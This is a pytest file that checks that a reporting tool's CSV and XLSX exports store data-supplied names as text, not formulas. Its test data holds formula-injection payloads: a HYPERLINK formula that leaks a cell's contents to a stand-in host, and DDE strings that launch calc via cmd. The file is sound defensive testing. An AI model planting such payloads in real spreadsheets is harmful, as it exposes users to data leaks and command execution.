"""No text from data becomes a live formula in the files we write
(schemas/cells.py): names planted as formulas in the events go through
`report --format csv|xlsx` and the monthly workbook, and the written files
are opened with the csv module and openpyxl (and the xlsx XML itself)."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from motcua import app
from schemas.cells import append_row, csv_cell, set_cell

AGENCY = '=HYPERLINK("http://x.invalid/?leak="&A1,"Bấm vào đây")'
FIELD = "+SUM(1+1)"
PROCEDURE = "@cmd|' /C calc'!A0"
DISTRICT = "-2+3+cmd|' /C calc'!A0"
PLANTED = (AGENCY, FIELD, PROCEDURE, DISTRICT)
EVENTS = [
    {
        "event_id": "f1",
        "dossier_id": "H44.999-260504-0001",
        "type": "received",
        "at": "2026-05-04T09:00:00",
        "agency_code": "H44.999",
        "agency_name": AGENCY,
        "level": "commune",
        "district_code": "D09",
        "district_name": DISTRICT,
        "procedure_code": "9.999999",
        "procedure_name": PROCEDURE,
        "field_code": "XX",
        "field_name": FIELD,
        "channel": "online",
        "due_at": "2026-05-07T09:00:00",
    },
    {
        "event_id": "f2",
        "dossier_id": "H44.999-260504-0001",
        "type": "resolved",
        "at": "2026-05-06T10:00:00",
    },
]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_starting_like_a_formula_gets_a_quote(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_csv_numbers_stay_numbers_and_plain_text_stays_as_is() -> None:
    assert csv_cell(-5) == "-5"  # a negative number is a number, not text from data
    assert csv_cell(Decimal("-1.5")) == "-1.50"
    assert csv_cell(None) == ""
    assert csv_cell("UBND Phường A=B") == "UBND Phường A=B"
    assert csv_cell("") == ""


def test_xlsx_helpers_store_text_never_a_formula(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    append_row(sheet, [AGENCY, -5, 2.5, "#N/A", "plain"])
    set_cell(sheet, 2, 1, FIELD)
    book.save(tmp_path / "t.xlsx")
    read = load_workbook(tmp_path / "t.xlsx").active
    row = read[1]
    assert [c.data_type for c in row] == ["s", "n", "n", "s", "s"]
    assert [c.value for c in row] == [AGENCY, -5, 2.5, "#N/A", "plain"]
    assert row[0].quotePrefix and not row[4].quotePrefix
    assert (read["A2"].value, read["A2"].data_type) == (FIELD, "s")


def _events(tmp_path: Path) -> Path:
    path = tmp_path / "events.jsonl"
    path.write_text("\n".join(json.dumps(e, ensure_ascii=False) for e in EVENTS), "utf-8")
    return path


def _invoke(*args: str) -> str:
    result = CliRunner().invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result.stdout


def _formulas(path: Path) -> list[str]:
    """Every formula in the workbook's XML (a cell's <f> element), not only what
    openpyxl reports."""
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        return [n for n in sheets if "<f>" in (x := z.read(n).decode()) or "<f " in x]


def _assert_text_only(path: Path) -> set[str]:
    """No formula cell anywhere; returns the planted names found, each as text."""
    assert _formulas(path) == []
    found = set()
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in PLANTED:
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                    found.add(cell.value)
    return found


@pytest.mark.parametrize(
    ("by", "name"),
    [("agency", AGENCY), ("field", FIELD), ("procedure", PROCEDURE), ("district", DISTRICT)],
)
def test_report_csv_and_xlsx_keep_names_as_text(tmp_path: Path, by: str, name: str) -> None:
    events = str(_events(tmp_path))
    common = ["report", "--from", "2026-05-01", "--to", "2026-06-01", "--by", by]
    out = _invoke(*common, "--events", events, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["unit_name"] for r in rows] == [f"'{name}"]
    assert rows[0]["received_total"] == "1"  # counts stay numbers
    xlsx = tmp_path / f"{by}.xlsx"
    _invoke(*common, "--events", events, "--format", "xlsx", "--output", str(xlsx))
    assert _assert_text_only(xlsx) == {name}
    sheet = load_workbook(xlsx).active
    data = sheet[4]  # title, Vietnamese headers, machine names, then the row
    assert (data[1].value, data[1].data_type) == (name, "s")
    assert (data[3].value, data[3].data_type) == (1, "n")  # received_total


def test_monthly_workbook_and_csv_keep_names_as_text(tmp_path: Path) -> None:
    events = str(_events(tmp_path))
    common = ["export", "monthly", "--month", "2026-05", "--source", "files", "--events", events]
    xlsx = tmp_path / "may.xlsx"
    _invoke(*common, "--output", str(xlsx))
    # agency, field and district sheets, the chart sheet's agency list
    assert _assert_text_only(xlsx) == {AGENCY, FIELD, DISTRICT}
    chart_names = [r[0] for r in load_workbook(xlsx)["Biểu đồ"].iter_rows(values_only=True)]
    assert AGENCY in chart_names
    unit = tmp_path / "unit.xlsx"  # one unit: its name (from data) is on the cover
    _invoke(*common, "--unit", "H44.999", "--output", str(unit))
    cover = load_workbook(unit)["Bìa"]
    [name_cell] = [row[1] for row in cover.iter_rows() if row[0].value == "Đơn vị báo cáo"]
    assert (name_cell.value, name_cell.data_type, name_cell.quotePrefix) == (AGENCY, "s", True)
    text = tmp_path / "may.csv"
    _invoke(*common, "--format", "csv", "--output", str(text))
    rows = list(csv.DictReader(io.StringIO(text.read_text("utf-8-sig"))))
    assert [r["unit_name"] for r in rows] == [f"'{AGENCY}", "Toàn tỉnh"]
